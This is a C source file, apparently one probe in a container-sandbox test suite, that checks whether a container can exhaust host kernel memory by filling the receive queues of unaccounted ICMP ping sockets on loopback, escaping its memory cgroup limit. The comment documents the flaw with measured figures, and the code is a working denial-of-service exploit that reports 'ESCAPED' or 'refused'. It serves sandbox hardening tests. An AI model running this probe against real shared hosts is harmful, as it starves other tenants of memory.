/* Socket queues no memory cgroup charges: ICMP echo ("ping") sockets, which
 * an OCI container gets when its config sets net.ipv4.ping_group_range (as
 * docker does by default). Echo requests to the container's own loopback
 * queue their replies on the socket, up to its receive buffer (rmem_max x 2
 * = 8 MB here); ping sockets have no socket memory accounting, so neither
 * v1's kmem.tcp limit nor the memory limit sees them: 20 sockets held
 * 165 MB of the host's slab in a 64 MB cgroup, and one process's 4096 fds
 * could hold 32 GB. Argument: the most the guest may queue, in MiB.
 *   ping_socket_queues   refused if the socket is, or if the replies queued
 *                        (/proc/net/icmp's rx_queue, summed) stay under it */
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attack.h"

#define SOCKETS 30

static long queued_bytes(void)
{
    FILE *f = fopen("/proc/net/icmp", "re");
    if (f == NULL)
        return -1;
    char line[512];
    long total = 0;
    unsigned long tx, rx;
    while (fgets(line, sizeof(line), f) != NULL)
        if (sscanf(line, "%*s %*s %*s %*s %lx:%lx", &tx, &rx) == 2)
            total += (long)rx;
    fclose(f);
    return total;
}

int main(int argc, char **argv)
{
    attack_require_sandbox();
    long most = argc > 1 ? atol(argv[1]) : 128;
    struct sockaddr_in lo = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    static char packet[8192];
    int n = 0;
    for (; n < SOCKETS; n++) {
        int s = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, IPPROTO_ICMP);
        if (s < 0) {
            attack_line("ping_socket_queues", "refused", "socket #%d: %s", n,
                        attack_errname(errno));
            attack_done();
            return 0;
        }
        int big = 1 << 30;
        setsockopt(s, SOL_SOCKET, SO_RCVBUF, &big, sizeof(big));
        for (int k = 0; k < 1500; k++) {
            struct icmphdr *h = (struct icmphdr *)packet;
            h->type = ICMP_ECHO;
            h->un.echo.sequence = htons((unsigned short)k);
            if (sendto(s, packet, sizeof(packet), 0, (struct sockaddr *)&lo, sizeof(lo)) < 0)
                break;
        }
    }
    usleep(200000); /* the last replies reach their queues */
    long q = queued_bytes();
    if (q < 0)
        attack_line("ping_socket_queues", "inconclusive", "/proc/net/icmp: %s",
                    attack_errname(errno));
    else if (q >> 20 >= most)
        attack_line("ping_socket_queues", "ESCAPED", "%d sockets queued %ld MiB", n, q >> 20);
    else
        attack_line("ping_socket_queues", "refused", "%d sockets queued only %ld MiB", n, q >> 20);
    attack_done();
    return 0;
}
